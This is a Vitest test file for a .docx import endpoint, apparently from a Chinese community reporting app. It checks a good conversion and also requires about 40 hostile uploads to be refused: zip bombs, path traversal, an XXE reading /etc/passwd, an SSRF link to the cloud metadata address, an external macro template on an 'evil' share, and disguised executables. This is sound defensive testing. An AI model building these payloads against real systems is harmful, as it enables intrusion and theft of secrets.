import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { createTestApp, type TestApp } from '../../../../test/app.ts';
import { buildOrg, buildUser, docxText, loginAs } from '../../../../test/factories.ts';
import { queryRows } from '../../../core/sql.ts';
import { GPS_LATITUDE_MARK, goodDocx, hugePng, mutate, replacePart, unzip, zip, type Entry } from './docx-samples.ts';

let t: TestApp;
let cookie: string;
let good: Buffer;

beforeAll(async () => {
  t = await createTestApp();
  const org = await buildOrg(t, { name: '东门社区', kind: 'community' });
  cookie = await loginAs(t, await buildUser(t, { org, roles: [{ role: 'reporter' }] }));
  good = await goodDocx();
});
afterAll(async () => t.close());

function multipart(fileName: string, bytes: Buffer, type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document') {
  const boundary = '----xl-test-boundary';
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: ${type}\r\n\r\n`, 'utf8');
  return { payload: Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]), headers: { cookie, 'content-type': `multipart/form-data; boundary=${boundary}` } };
}
const upload = (fileName: string, bytes: Buffer) => t.app.inject({ method: 'POST', url: '/api/manuscripts/import', ...multipart(fileName, bytes) });
const rows = async () => (await queryRows<{ m: number; f: number }>(t.services.db, sql`select (select count(*)::int from manuscripts) as m, (select count(*)::int from files) as f`))[0];

const rels = (extra: string) => (entries: Entry[]) => replacePart(entries, 'word/_rels/document.xml.rels', (x) => x.replace('</Relationships>', `${extra}</Relationships>`));
const IMAGE_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image';

/** The hostile corpus: each is refused with a 中文 reason. */
function hostile(): Array<[string, string, Buffer | (() => Buffer)]> {
  const media = () => unzip(good).find((e) => e.name.startsWith('word/media/') && e.name.endsWith('.png'))?.name ?? 'word/media/x.png';
  const jpegName = () => unzip(good).find((e) => e.name.startsWith('word/media/') && e.name.endsWith('.jpg'))?.name ?? '';
  const withPart =
    (name: string, data: string | Buffer, extra: Partial<Entry> = {}) =>
    () =>
      mutate(good, (es) => [...es, { name, data: Buffer.isBuffer(data) ? data : Buffer.from(data), ...extra }]);
  return [
    ['not a zip', 'a.docx', Buffer.from('这只是一段文本，不是 Word 文档。'.repeat(20))],
    ['empty file', 'a.docx', Buffer.alloc(0)],
    ['truncated zip', 'a.docx', () => good.subarray(0, Math.floor(good.length / 2))],
    ['zip without a directory end', 'a.docx', () => good.subarray(0, good.length - 30)],
    ['garbage after a fake end record', 'a.docx', Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(40, 7), Buffer.from([0x50, 0x4b, 0x05, 0x06]), Buffer.alloc(18, 0x01)])],
    ['empty archive', 'a.docx', zip([])],
    ['no [Content_Types].xml', 'a.docx', () => mutate(good, (es) => es.filter((e) => e.name !== '[Content_Types].xml'))],
    ['no word/document.xml', 'a.docx', () => mutate(good, (es) => es.filter((e) => e.name !== 'word/document.xml'))],
    ['a spreadsheet renamed', 'a.docx', () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replaceAll('wordprocessingml.document.main+xml', 'spreadsheetml.sheet.main+xml')))],
    ['zip bomb by ratio', 'a.docx', withPart('word/bomb.bin', Buffer.alloc(30 * 1024 * 1024))],
    ['zip bomb by declared total', 'a.docx', withPart('word/big.xml', Buffer.from('<a/>'), { declaredSize: 200 * 1024 * 1024, method: 0 })],
    [
      'zip bomb: size understated',
      'a.docx',
      () => {
        const data = Buffer.alloc(4 * 1024 * 1024, 0x41);
        const es = unzip(good);
        return zip([...es, { name: 'word/liar.xml', data, declaredSize: 100 }]);
      },
    ],
    ['overlapping entries', 'a.docx', () => zip([...unzip(good), { name: 'word/overlap.xml', data: Buffer.from('<x/>') }], { overlapLast: true })],
    ['too many entries', 'a.docx', () => zip([...unzip(good), ...Array.from({ length: 2001 }, (_, i) => ({ name: `word/n/${i}.xml`, data: Buffer.from(''), method: 0 as const }))])],
    ['path traversal', 'a.docx', withPart('../../evil.xml', '<x/>')],
    ['traversal inside a folder', 'a.docx', withPart('word/../../../etc/cron.d/x', '<x/>')],
    ['absolute path', 'a.docx', withPart('/etc/passwd', 'root')],
    ['backslash path', 'a.docx', withPart('word\\..\\..\\evil.xml', '<x/>')],
    ['drive letter', 'a.docx', withPart('C:/Windows/evil.xml', '<x/>')],
    ['symlink entry', 'a.docx', withPart('word/link', '/etc/passwd', { externalAttrs: (0o120777 << 16) >>> 0, method: 0 })],
    ['encrypted entry', 'a.docx', withPart('word/secret.xml', '<x/>', { flags: 1 })],
    ['ZIP64 marker', 'a.docx', () => mutate(good, (es) => es, { zip64: true })],
    ['duplicate names', 'a.docx', () => mutate(good, (es) => [...es, { name: 'word/document.xml', data: Buffer.from('<x/>') }])],
    ['unsupported compression', 'a.docx', withPart('word/x.bin', Buffer.from('abc'), { method: 12 })],
    ['macro content type (a .docm renamed)', 'a.docx', () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replace('document.main+xml', 'document.macroEnabled.main+xml')))],
    ['vbaProject.bin', 'a.docx', withPart('word/vbaProject.bin', Buffer.from('ATTRIBUT VB_Name'))],
    ['.docm file name', 'report.docm', () => good],
    ['.doc file name', 'report.doc', Buffer.from('d0cf11e0a1b11ae1000000000000000000000000000000003e000300feff0900', 'hex')],
    ['OLE container (encrypted docx)', 'a.docx', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)])],
    ['PDF polyglot', 'a.docx', () => Buffer.concat([Buffer.from('%PDF-1.7\n%%EOF\n'), good])],
    ['external image (file://)', 'a.docx', () => mutate(good, rels(`<Relationship Id="rIdX1" Type="${IMAGE_REL}" Target="file:///etc/passwd" TargetMode="External"/>`))],
    ['external image (http, r:link)', 'a.docx', () => mutate(good, rels(`<Relationship Id="rIdX2" Type="${IMAGE_REL}" Target="http://169.254.169.254/latest/meta-data" TargetMode="External"/>`))],
    [
      'external attached template',
      'a.docx',
      () =>
        mutate(
          good,
          rels(`<Relationship Id="rIdX3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\share\\t.dotm" TargetMode="External"/>`),
        ),
    ],
    ['XXE in document.xml', 'a.docx', () => mutate(good, (es) => replacePart(es, 'word/document.xml', (x) => x.replace('?>', '?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>')))],
    [
      'billion laughs',
      'a.docx',
      () => mutate(good, (es) => replacePart(es, '[Content_Types].xml', (x) => x.replace('?>', '?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'))),
    ],
    ['wrong image bytes', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === media() ? { ...e, data: Buffer.from('<html><script>alert(1)</script></html>') } : e)))],
    ['an executable as the photo', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === jpegName() ? { ...e, data: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)]) } : e)))],
    ['pixel flood (20000×20000)', 'a.docx', () => mutate(good, (es) => es.map((e) => (e.name === media() ? { ...e, data: hugePng() } : e)))],
    ['an embedded archive with a bomb ratio', 'a.docx', withPart('word/embeddings/inner.zip', Buffer.alloc(3 * 1024 * 1024))],
  ];
}

describe('[导入] Word import', () => {
  it('turns a good .docx into a draft: title, body, captioned photos, table; GPS removed', async () => {
    const res = await upload('东门社区工作信息.docx', good);
    expect(res.statusCode, res.body).toBe(201);
    const m = res.json();
    expect(m).toMatchObject({ title: '东门社区举办老年人智能手机培训班', status: 'draft' });
    expect(m.bodyHtml).not.toContain('东门社区举办老年人智能手机培训班</');
    expect(m.bodyHtml).toContain('<figcaption>图为志愿者指导老人使用手机</figcaption>');
    expect(m.bodyHtml).toContain('<figcaption>培训班结业合影</figcaption>');
    expect(m.bodyHtml).toMatch(/<table>[\s\S]*期次[\s\S]*第一期[\s\S]*42[\s\S]*<\/table>/);
    const srcs = [...(m.bodyHtml as string).matchAll(/src="(\/api\/files\/[0-9a-f]{64})"/g)].map((x) => x[1] ?? '');
    expect(srcs).toHaveLength(2);
    for (const src of srcs) {
      const file = await t.app.inject({ method: 'GET', url: src, headers: { cookie } });
      expect(file.statusCode).toBe(200);
      expect(file.headers['x-content-type-options']).toBe('nosniff');
      expect(file.rawPayload.includes(GPS_LATITUDE_MARK)).toBe(false);
      if (file.headers['content-type'] === 'image/jpeg') expect(file.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xff, 0xd8, 0xff]));
    }
    const check = (await t.app.inject({ method: 'POST', url: `/api/manuscripts/${m.id}/check`, headers: { cookie } })).json();
    expect(check.problems.filter((p: { code: string }) => p.code === 'caption_missing')).toEqual([]);

    // And back to Word: the export opens as a zip with the text, captions, table and both photos.
    const out = await t.app.inject({ method: 'GET', url: `/api/manuscripts/${m.id}/docx`, headers: { cookie } });
    expect(out.statusCode).toBe(200);
    expect(decodeURIComponent(out.headers['content-disposition'] as string)).toMatch(/东门社区-\d{4}年\d{1,2}月\d{1,2}日工作信息\.docx/);
    const text = await docxText(out.rawPayload);
    for (const s of ['东门社区举办老年人智能手机培训班', '图为志愿者指导老人使用手机', '培训班结业合影', '期次', '第一期', '报送单位：东门社区']) expect(text).toContain(s);
    expect(unzip(out.rawPayload).filter((e) => e.name.startsWith('word/media/'))).toHaveLength(2);
    const xml =
      unzip(out.rawPayload)
        .find((e) => e.name === 'word/document.xml')
        ?.data.toString('utf8') ?? '';
    expect(xml).toContain('w:eastAsia="仿宋"');
    expect(xml).toContain('w:eastAsia="宋体"');
  });

  const corpus = hostile();
  it(`refuses ${corpus.length} hostile files with a 中文 reason, leaving nothing behind`, async () => {
    expect(corpus.length).toBeGreaterThanOrEqual(30);
    const before = await rows();
    const wrong: string[] = [];
    for (const [what, name, make] of corpus) {
      const bytes = typeof make === 'function' ? make() : make;
      const started = Date.now();
      const res = await upload(name, bytes);
      const message = res.json()?.error?.message ?? '';
      if (![400, 413, 415].includes(res.statusCode) || !/[\u4e00-\u9fff]/.test(message)) wrong.push(`${what}: ${res.statusCode} ${res.body}`);
      if (Date.now() - started > 2000) wrong.push(`${what}: took ${Date.now() - started} ms`);
      const after = await rows();
      if (after?.m !== before?.m || after?.f !== before?.f) wrong.push(`${what}: left rows behind`);
    }
    expect(wrong).toEqual([]);
  });

  it('refuses an upload over the size limit before reading it whole', async () => {
    const res = await upload('big.docx', Buffer.concat([good, Buffer.alloc(6 * 1024 * 1024)]));
    expect(res.statusCode).toBe(413);
    expect(res.json().error.message).toContain('文件过大');
  });
});
